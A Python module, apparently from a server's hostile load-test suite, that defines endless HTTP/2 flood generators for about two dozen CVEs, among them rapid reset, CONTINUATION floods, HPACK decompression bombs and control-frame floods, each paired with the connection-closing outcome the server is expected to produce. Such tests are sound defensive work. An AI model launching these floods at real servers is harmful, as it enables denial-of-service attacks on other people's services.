"""Attacks that send without end. Each costs the server more than the attacker, so its connection has to be closed."""

from collections.abc import Callable

from ghostless.contract import http2_frames as f
from loadtest.hostile.attacks import CALM, Attack, Pieces, Target, ends
from loadtest.hostile.wire import PING, added, call, data, field, head, headers, huffman_a, settings, streams

Make = Callable[[Target], Pieces]

# Frames that are sent at once: identical ones, and ones with a stream number each.
_SAME, _NUMBERED = 512, 32
_PIECE_BYTES = 1 << 17
_NARROW = f.PREFACE + f.settings({f.INITIAL_WINDOW_SIZE: 0})
_BIG_ENTRY = b"x" * 4000
# An entry with which a call's headers stay below the server's limit of 16 kB.
_LARGE_ENTRY = b"x" * 2900


def _same(frame: bytes, on_stream: bool = False) -> Make:
    """Sends one frame repeatedly; `on_stream`: after opening a call on stream 1."""

    def pieces(target: Target) -> Pieces:
        if on_stream:
            yield headers(1, head(target.path))
        piece = frame * max(1, min(_SAME, _PIECE_BYTES // len(frame)))
        while True:
            yield piece

    return pieces


def _numbered(frames: Callable[[int, bytes, bytes], bytes], before: bytes = b"", more: bytes = b"") -> Make:
    """Sends `frames(number, block, body)` of a call on every stream. `before`: header fields of a call that is sent
    first; `more`: additional header fields of every call."""

    def pieces(target: Target) -> Pieces:
        block, body = head(target.path, more), f.message(target.message)
        numbers = streams()
        if before:
            yield headers(next(numbers), head(target.path, before), f.END_HEADERS | f.END_STREAM)
        while True:
            yield b"".join(frames(next(numbers), block, body) for _ in range(_NUMBERED))

    return pieces


def _answered_with_a_reset(provocation: Callable[[int, bytes], bytes]) -> Make:
    """Sends complete calls, each followed by something on its stream that the server must answer with RST_STREAM."""
    return _numbered(lambda number, block, body: call(number, block, body) + provocation(number, block))


def _block_without_end(piece: bytes) -> Make:
    def pieces(target: Target) -> Pieces:
        yield headers(1, head(target.path), 0)
        while True:
            yield f.frame(f.CONTINUATION, 0, 1, piece) * _NUMBERED

    return pieces


def _small_fields(target: Target) -> Pieces:
    """A table entry of a few bytes, and hundreds of references to it in each call; the answers are held back. All
    blocks differ, so that each takes its own memory."""
    numbers = streams()
    yield headers(next(numbers), head(target.path, added(b"nnn", b"vvv")), f.END_HEADERS | f.END_STREAM)
    body = f.message(target.message)
    for number in numbers:
        yield call(number, head(target.path, field(b"n", str(number).encode()) + b"\xbe" * 400), body)


def _huffman(target: Target) -> Pieces:
    """Blocks with long Huffman strings. All blocks differ, so that none can be cached."""
    for number in streams():
        name = field(b"n", str(number).encode())
        block = head(target.path, name + b"\x00\x01h" + huffman_a(9000))
        yield headers(number, block) + f.reset(number, f.CANCEL)


def _settings_with_open_calls(target: Target) -> Pieces:
    """Changes of the initial window, each of which affects all open streams."""
    block = head(target.path)
    yield b"".join(headers(number, block) for number in range(1, 1801, 2))
    change = b"".join(f.settings({f.INITIAL_WINDOW_SIZE: size}) for size in (0, 65_535, 1 << 20))
    while True:
        yield change * 64


def _dribble(target: Target) -> Pieces:
    """Opens the window for an answer byte by byte."""
    yield call(1, head(target.path), f.message(target.message))
    while True:
        yield f.window_update(1, 1) * _SAME


def _bomb(target: Target) -> Pieces:
    """A large table entry, and thousands of references to it of one byte each."""
    numbers = streams()
    yield headers(next(numbers), head(target.path, added(b"n", _BIG_ENTRY)))
    while True:
        yield headers(next(numbers), head(target.path, b"\xbe" * 16_000))


def _data_after_reset(target: Target) -> Pieces:
    yield headers(1, head(target.path, field(b"te", b"x")))
    while True:
        yield data(1, bytes(100)) * _SAME


FLOODS = (
    Attack(
        "rapid reset",
        "CVE-2023-44487",
        _numbered(lambda number, block, body: call(number, block, body) + f.reset(number, f.CANCEL)),
        CALM,
    ),
    Attack(
        "rapid reset of calls without a body",
        "CVE-2023-44487",
        _numbered(lambda number, block, body: headers(number, block) + f.reset(number, f.CANCEL)),
        CALM,
    ),
    Attack(
        "server made to reset by a window of 0",
        "CVE-2025-8671",
        _answered_with_a_reset(lambda number, block: f.window_update(0, number)),
        CALM,
    ),
    Attack(
        "server made to reset by a window too large",
        "CVE-2025-8671",
        _answered_with_a_reset(lambda number, block: f.window_update(f.LARGEST_WINDOW, number)),
        CALM,
    ),
    Attack(
        "server made to reset by data after the end",
        "CVE-2025-8671",
        _answered_with_a_reset(lambda number, block: data(number, b"more")),
        CALM | ends("goaway 5"),
    ),
    Attack(
        "server made to reset by headers after the end",
        "CVE-2025-8671",
        _answered_with_a_reset(lambda number, block: headers(number, block)),
        CALM | ends("goaway 5"),
    ),
    Attack(
        "malformed requests",
        "CVE-2019-9514",
        _numbered(lambda number, block, body: headers(number, block), more=field(b"te", b"x")),
        CALM,
    ),
    Attack(
        "more streams than allowed",
        "CVE-2019-9514",
        _numbered(lambda number, block, body: headers(number, block)),
        CALM,
    ),
    Attack(
        "zero-length header names",
        "CVE-2019-9516",
        _numbered(lambda number, block, body: headers(number, block), more=field(b"", b"") * 100),
        CALM,
    ),
    Attack("CONTINUATION without end", "CVE-2024-27316", _block_without_end(field(b"n", bytes(900))), CALM),
    Attack("empty CONTINUATION without end", "CVE-2024-30255", _block_without_end(b""), CALM),
    Attack("indexed fields that decode to 64 MB", "CVE-2016-6581", _bomb, CALM),
    Attack(
        "indexed fields below the limit, answers held",
        "CVE-2016-6581, CVE-2019-9517",
        _numbered(call, before=added(b"n", _LARGE_ENTRY), more=b"\xbe" * 5),
        CALM,
        opening=_NARROW,
    ),
    Attack("indexed fields of a few bytes, answers held", "CVE-2026-49975", _small_fields, CALM, opening=_NARROW),
    Attack("Huffman codes", "CVE-2022-41723", _huffman, CALM),
    Attack("PING", "CVE-2019-9512", _same(PING), CALM),
    Attack("PING whose answers are not read", "CVE-2019-9512", _same(PING), CALM, reads=False),
    Attack("answers to no PING", "CVE-2019-9512", _same(f.frame(f.PING, f.ACK, 0, bytes(8))), CALM),
    Attack("SETTINGS", "CVE-2019-9515", _same(f.settings({})), CALM),
    Attack("SETTINGS of 32 entries", "CVE-2019-9515", _same(settings(*[(f.HEADER_TABLE_SIZE, 0)] * 32)), CALM),
    Attack("SETTINGS of 2,730 entries", "CVE-2019-9515", _same(settings(*[(f.HEADER_TABLE_SIZE, 0)] * 2730)), CALM),
    Attack("SETTINGS with 900 open calls", "CVE-2019-9515", _settings_with_open_calls, CALM),
    Attack("WINDOW_UPDATE of the connection", "CVE-2019-9511", _same(f.window_update(1)), CALM),
    Attack("WINDOW_UPDATE of a stream", "CVE-2019-9511", _same(f.window_update(1, 1), on_stream=True), CALM),
    Attack("an answer byte by byte", "CVE-2019-9511", _dribble, CALM, opening=_NARROW),
    Attack("PRIORITY", "CVE-2019-9513", _same(f.frame(f.PRIORITY_FRAME, 0, 1, bytes((0, 0, 0, 3, 9)))), CALM),
    Attack("empty DATA", "CVE-2019-9518", _same(data(1), on_stream=True), CALM),
    Attack(
        "empty HEADERS",
        "CVE-2019-9518",
        _numbered(lambda number, block, body: headers(number, block, f.END_HEADERS | f.END_STREAM)),
        CALM,
    ),
    Attack("DATA of one byte", "CVE-2019-9518", _same(data(1, b"\0"), on_stream=True), CALM),
    Attack("DATA of padding", "CVE-2019-9518", _same(data(1, b"\xff" + bytes(255), f.PADDED), on_stream=True), CALM),
    Attack("DATA on a stream that was reset", "CVE-2019-9514", _data_after_reset, CALM),
    Attack("frames of an unknown kind", "CVE-2019-9518", _same(f.frame(0x77, 0, 0)), CALM),
    Attack("large frames of an unknown kind", "CVE-2019-9518", _same(f.frame(0x77, 0, 0, bytes(1 << 19))), CALM),
    Attack("GOAWAY", "CVE-2019-9518", _same(f.frame(f.GOAWAY, 0, 0, bytes(8))), CALM),
    Attack(
        "HTTP/1.1",
        "CWE-436",
        _same(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"),
        ends("http 505"),
        opening=b"",
    ),
)
